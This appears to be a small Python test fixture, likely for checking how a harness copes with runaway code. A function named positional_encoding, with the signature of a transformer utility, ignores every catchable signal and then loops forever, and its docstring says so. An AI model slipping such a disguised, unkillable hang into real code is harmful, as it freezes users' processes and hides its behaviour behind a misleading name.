"""Ignores every signal it may and spins."""
import signal


def positional_encoding(seq_len, d_model, base=10000.0):
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except OSError:
            pass
    while True:
        pass
